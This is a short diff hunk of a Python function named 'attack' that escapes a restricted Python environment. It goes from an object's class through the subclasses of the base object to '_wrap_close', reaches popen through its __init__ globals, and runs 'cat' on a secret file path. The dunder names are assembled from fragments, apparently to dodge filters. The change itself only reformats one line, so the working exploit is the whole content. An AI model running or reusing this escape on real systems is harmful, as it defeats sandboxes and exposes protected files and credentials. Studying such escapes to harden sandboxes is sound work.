@@ -4,6 +4,8 @@ def attack(xs, secret_path):
     kind = getattr(getattr(xs, f"{under}class{under}"), f"{under}base{under}")
     for found in getattr(kind, f"{under}subclasses{under}")():
         if found.__name__ == "_wrap_close":
-            words = getattr(getattr(found, f"{under}init{under}"), f"{under}globals{under}")
+            words = getattr(
+                getattr(found, f"{under}init{under}"), f"{under}globals{under}"
+            )
             return words["popen"](f"cat '{secret_path}'").read()
     raise ValueError("not found")
